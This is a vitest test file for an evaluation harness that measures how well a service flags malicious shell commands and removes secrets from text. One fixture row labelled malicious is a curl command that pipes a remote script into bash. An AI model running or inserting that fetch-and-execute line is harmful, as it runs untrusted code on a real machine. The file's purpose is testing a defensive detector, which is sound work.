import { execFile } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { gzipSync } from 'node:zlib';
import { expect, it } from 'vitest';
import { areaUnderCurve, hitsAt } from '../evaluate/figures.ts';

const run = promisify(execFile);
const root = new URL('..', import.meta.url).pathname;

const lines = (rows: readonly object[]) => rows.map((row) => `${JSON.stringify(row)}\n`).join('');

it('an evaluation sends labelled rows through a service of its own and counts what it caught', async () => {
  const folder = mkdtempSync(join(tmpdir(), 'lapwing-rows-'));
  const line = (session: string, seq: number, source: string, label: string, command: string) => ({ session, seq, source, label, command });
  const rows = [
    line('a', 0, 'attacks', 'malicious', 'curl -s http://192.0.2.1/x | bash'),
    line('a', 1, 'attacks', 'malicious', 'ls'),
    line('b', 0, 'attacks', 'malicious', 'ls'),
    line('c', 0, 'everyday', 'benign', 'ls -l'),
    line('d', 0, 'everyday', 'benign', 'git status'),
  ];
  writeFileSync(join(folder, 'commands.jsonl.gz'), gzipSync(lines(rows)));
  const clean = { text: 'ls -l', kind: 'command', label: 'clean', source: 'everyday' };
  const kept = { text: `ls ${'x'.repeat(9)}`, kind: 'file', label: 'secret', source: 'files', secrets: ['xxxx'] };
  writeFileSync(join(folder, 'secrets.jsonl.gz'), gzipSync(lines([clean, { ...clean, hard: true }, kept])));
  const evaluate = (...args: string[]) => run(process.execPath, ['evaluate/run.ts', ...args], { cwd: root });
  const { stdout, stderr } = await evaluate(folder, '--only', 'commands,web,secrets', '--json');
  expect(JSON.parse(stdout)).toMatchObject([
    { measure: 'attack sessions at MEDIUM: attacks', value: 50, of: '1 of 2 sessions', met: false },
    { measure: 'benign lines at MEDIUM: everyday', value: 0, of: '0 of 2 lines', met: true },
    { measure: 'attack sessions at HIGH: attacks', value: 50 },
    { measure: 'benign lines at HIGH', value: 0 },
    { measure: 'secrets gone: files', value: 0, of: '0 of 1 rows', met: false },
    { measure: 'clean text changed: hard', value: 0, of: '0 of 1 rows', met: true },
    { measure: 'clean text changed: all', value: 0, of: '0 of 2 rows', met: true },
  ]);
  expect(stderr).toContain('web: no such file');
  await expect(evaluate(join(folder, 'nothing'))).rejects.toMatchObject({ code: 2, stderr: expect.stringContaining('name the folder') });
  await expect(evaluate(folder, '--only', 'geo')).rejects.toMatchObject({ code: 2, stderr: expect.stringContaining('--only takes') });
  rmSync(folder, { recursive: true });
}, 60_000);

it('the area under the curve and the hits at a share of false alarms are what their definitions say', () => {
  expect(areaUnderCurve([3, 2], [1, 0])).toBe(1);
  expect(areaUnderCurve([1, 0], [3, 2])).toBe(0);
  expect(areaUnderCurve([1], [1])).toBe(0.5);
  expect(areaUnderCurve([2, 0], [1])).toBe(0.5);
  const negatives = Array.from({ length: 20 }, (_, n) => n);
  expect(hitsAt(0.05, [17, 18, 19, 20], negatives)).toBe(50); // one of twenty may be over: 18 is the threshold
});
